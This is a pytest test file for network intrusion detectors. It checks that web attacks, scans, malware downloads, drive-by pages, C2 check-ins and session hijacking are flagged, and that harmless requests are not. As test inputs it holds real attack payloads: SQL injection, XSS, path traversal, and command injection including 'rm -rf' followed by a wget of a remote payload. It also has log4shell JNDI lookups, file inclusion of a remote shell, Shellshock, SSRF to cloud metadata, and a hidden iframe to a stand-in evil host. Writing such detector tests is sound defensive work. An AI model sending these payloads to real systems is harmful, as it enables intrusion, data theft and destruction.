"""Web attacks are found however they are written; ordinary requests, also odd ones, are not."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.detect.c2_http import C2Http
from app.detect.form_guessing import FormGuessing
from app.detect.http_download import HttpDownload
from app.detect.session_hijack import SessionHijack
from app.detect.user_agents import UserAgents
from app.detect.web_attack import WebAttack
from app.detect.web_patterns import attacks, decoded
from app.dpi.facts import HttpTransaction
from tests import pace
from tests.detect.scene import START, Scene, request, response

ATTACKS = [
    ("SQL injection", "/item?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20-"),
    ("SQL injection", "/item?id=1'+or+'1'='1"),
    ("SQL injection", "/item?id=1%2527%2bOR%2b1%253D1--"),
    ("SQL injection", "/item?id=1 and sleep(5)"),
    ("SQL injection", "/item?id=1;drop table users"),
    ("SQL injection", "/item?id=1/**/union/**/all/**/select/**/1,2"),
    ("Cross-site scripting", "/s?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    ("Cross-site scripting", "/s?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"),
    ("Cross-site scripting", "/s?q=<svg/onload=confirm(document.domain)>"),
    ("Path traversal", "/get?f=../../../../etc/passwd"),
    ("Path traversal", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"),
    ("Path traversal", "/get?f=..%5c..%5c..%5cwindows%5cwin.ini"),
    ("Command injection", "/ping?ip=127.0.0.1;cat%20/etc/passwd"),
    ("Command injection", "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/jaws;sh+/tmp/jaws"),
    ("Command injection", "/a?x=|id"),
    ("Command injection", "/a?host=127.0.0.1%26%26whoami"),
    ("log4shell (JNDI lookup)", "/?x=${${lower:j}ndi:${lower:l}dap://192.0.2.1/a}"),
    ("log4shell (JNDI lookup)", "/?x=${jndi:ldap://192.0.2.1:1389/a}"),
    ("log4shell (JNDI lookup)", "/?x=$%7B$%7B::-j%7D$%7B::-n%7D$%7B::-d%7D$%7B::-i%7D:ldap://192.0.2.1/a%7D"),
    ("Remote or local file inclusion", "/index.php?page=http://192.0.2.1/shell.txt"),
    ("Remote or local file inclusion", "/index.php?page=php://filter/convert.base64-encode/resource=index"),
    ("Template injection", "/?name={{7*7}}"),
    ("Spring4Shell", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
    ("Struts OGNL injection", "/a.action?redirect:%25{(%23_memberAccess=@ognl.OgnlContext@DEFAULT)}"),
    ("Exploit of a known weakness", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
    ("Server-side request forgery", "/fetch?url=http://169.254.169.254/latest/meta-data/"),
]
HARMLESS = [
    "/", "/a?x=$(id).hide()%26%26id", "/p?t=whoami&price=$%7Bamount%7D", "/search?q=select+a+union+from+the+list", "/index.php?id=42&name=O%27Brien", "/a/../b.css", "/wiki/Path_(computing)",
    "/track?u=https%3A%2F%2Fwww.example.com%2Fa%3Fb%3Dc&t=1600000000", "/q?text=it%27s%20a%20cat%20and%20a%20dog", "/lib/jquery-3.6.0.min.js?v=1.2.3",
    "/search?q=how+to+drop+a+table+in+sql", "/p?x=1%2C2%2C3&sort=name+asc", "/img/on.png?onload=1", "/a?filter=(a|b)&order=-date",
    "/complete/search?client=chrome&q=bin%20sh", "/news/2021/12/log4j-explained", "/login?next=/home&user=a@example.com", "/x?data=eyJhIjoxfQ%3D%3D",
    "/ad?redirect=https://shop.example/?a=1&b=2", "/collect?v=1&dl=http%3A%2F%2Fexample.com%2F&dt=Cats%20%26%20dogs%3B%20more", "/v1/users/1;jsessionid=1A2B",
]  # fmt: skip


@pytest.mark.parametrize(("name", "target"), ATTACKS, ids=[target[:40] for _, target in ATTACKS])
def test_attacks_are_named(name: str, target: str) -> None:
    scene = Scene(WebAttack).tell(request(target))
    assert f"Web attack: {name}" in [one.title for one in scene.said]
    assert scene.said[0].source == "10.0.0.5"


@pytest.mark.parametrize("target", HARMLESS)
def test_harmless_requests_are_quiet(target: str) -> None:
    assert not Scene(WebAttack).tell(request(target)).said


def test_a_body_and_header_fields_are_read_too() -> None:
    scene = Scene(WebAttack)
    scene.tell(request("/login", "POST", b"user=a&name=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D"))
    assert "JNDI" in scene.said[0].title
    assert "body" in scene.said[0].reason
    scene = Scene(WebAttack).tell(request("/cgi-bin/status", User_Agent="() { :; }; /bin/bash -c 'id'"))
    assert "Web attack: Shellshock" in [one.title for one in scene.said]


def test_two_lengths_smuggle() -> None:
    message = request("/", "POST", b"0\r\n\r\n", Content_Length="6", Transfer_Encoding="chunked")
    assert Scene(WebAttack).tell(message).rules == ["http_smuggling"]
    assert not Scene(WebAttack).tell(request("/", "POST", b"a=b", Content_Length="3")).said


def test_many_refused_addresses_are_a_scan_and_a_few_are_not() -> None:
    def asked(count: int) -> list[str]:
        scene = Scene(WebAttack)
        for number in range(count):
            scene.tell(HttpTransaction(1, START, "GET", "h", f"/page{number}", "1.1", status=404))
        return scene.rules

    assert asked(29) == []
    assert asked(30) == ["web_scan_errors"]


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300), st.binary(max_size=300), st.binary(max_size=300))
def test_hostile_bytes_are_only_bytes(target: bytes, body: bytes, headers: bytes) -> None:
    attacks(target, body, headers)
    decoded(target)


@pytest.mark.parametrize("text", [b"'" * 8000, b"${" * 4000, b"<a " * 2700, b"../" * 2700, b"union " * 1300, b"a=" * 4000, b"/*" * 4000, b";cat " * 1600, b"{{" * 4000, b"select from " * 700, b"(" * 8000, b"`" * 8000, b"%25" * 2700])  # fmt: skip
def test_no_text_takes_long(text: bytes) -> None:
    assert pace.within(500, lambda: attacks(text, text, text))


def test_a_form_sent_again_and_again_is_guessing() -> None:
    scene = Scene(FormGuessing)
    for number in range(8):
        scene.tell(request("/login.php", "POST", f"user=admin&password=try{number}".encode()))
    assert scene.rules == ["brute_force_form"]
    same = Scene(FormGuessing)
    for _ in range(20):
        same.tell(request("/login.php", "POST", b"user=admin&password=always"))
    assert not same.said


PROGRAM = b"MZ\x90\0" + bytes(60) + b"\x0e\x1f\xba\x0e\0\xb4\tThis program cannot be run in DOS mode."


@pytest.mark.parametrize(
    ("host", "target", "kind", "agent", "rules"),
    [
        ("203.0.113.9", "/a.jpg", "image/jpeg", "Mozilla/5.0 (Windows NT 10.0)", ["malware_download"]),
        ("files.example", "/Exploit.class", "application/java-vm", "Java/1.8.0_181", ["malware_download"]),
        ("download.windowsupdate.com", "/d/setup.exe", "application/octet-stream", "Windows-Update-Agent", ["program_download"]),
        ("files.example", "/setup.exe", "application/octet-stream", "Mozilla/5.0 (X11)", ["program_download"]),
    ],
)  # fmt: skip
def test_downloads(host: str, target: str, kind: str, agent: str, rules: list[str]) -> None:
    asked = request(target, host=host, User_Agent=agent)
    assert Scene(HttpDownload).tell(response(asked, PROGRAM, kind)).rules == rules


def test_a_page_with_a_hidden_frame_and_packed_code() -> None:
    page = b'<html><iframe src="http://evil.example/x" width="1" height="1"></iframe><script>eval(unescape("%61%6c"))</script>'
    assert Scene(HttpDownload).tell(response(request("/"), page, "text/html")).rules == ["drive_by"]
    plain = b"<html><body><script src='/a.js'></script><p>Hello</p></body></html>"
    assert not Scene(HttpDownload).tell(response(request("/"), plain, "text/html")).said


def test_check_ins_of_malware_and_ordinary_forms() -> None:
    scene = Scene(C2Http).flow(server="203.0.113.9", port=7080)
    noise = bytes((7 * i * i + 13 * i) % 256 for i in range(600))
    scene.tell(request("/OK21pqJAtyyGBEo00sk", "POST", noise, host="203.0.113.9:7080", User_Agent="Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)"))  # fmt: skip
    assert scene.rules == ["c2_http"]
    ordinary = Scene(C2Http)
    ordinary.tell(request("/contact.php", "POST", b"name=Ann&text=Hello+there", User_Agent="Mozilla/5.0 (X11; Linux)", Referer="http://www.example.com/"))  # fmt: skip
    ordinary.tell(request("/api/v1/items?page=2", User_Agent="Mozilla/5.0 (X11; Linux)"))
    assert not ordinary.said


def test_scanners_say_who_they_are() -> None:
    told = HttpTransaction(1, START, "GET", "h", "/", "1.1", user_agent="Mozilla/5.00 (Nikto/2.1.6)")
    assert Scene(UserAgents).tell(told).rules == ["web_scan"]
    browser = HttpTransaction(
        1, START, "GET", "h", "/", "1.1", user_agent="Mozilla/5.0 (X11; Linux x86_64) Firefox/115.0"
    )
    assert not Scene(UserAgents).tell(browser).said


def test_a_session_has_one_owner() -> None:
    def cookie(agent: str) -> object:
        return request(Cookie="lang=de; PHPSESSID=ncobrqrb7fj2a2sinddtk567q4", User_Agent=agent)

    scene = Scene(SessionHijack).tell(cookie("A"), cookie("A"))  # type: ignore[arg-type]
    assert not scene.said
    scene.flow(client="10.0.0.66").tell(cookie("B"))  # type: ignore[arg-type]
    assert [(one.rule, one.severity, one.source, one.target) for one in scene.said] == [
        ("session_hijack", "high", "10.0.0.66", "10.0.0.5")
    ]
    assert "ncobrqrb" not in repr(scene.said)
    late = Scene(SessionHijack).tell(cookie("A"))  # type: ignore[arg-type]
    assert not late.flow(client="10.0.0.66").tell(cookie("B"), after=7200).said  # type: ignore[arg-type]
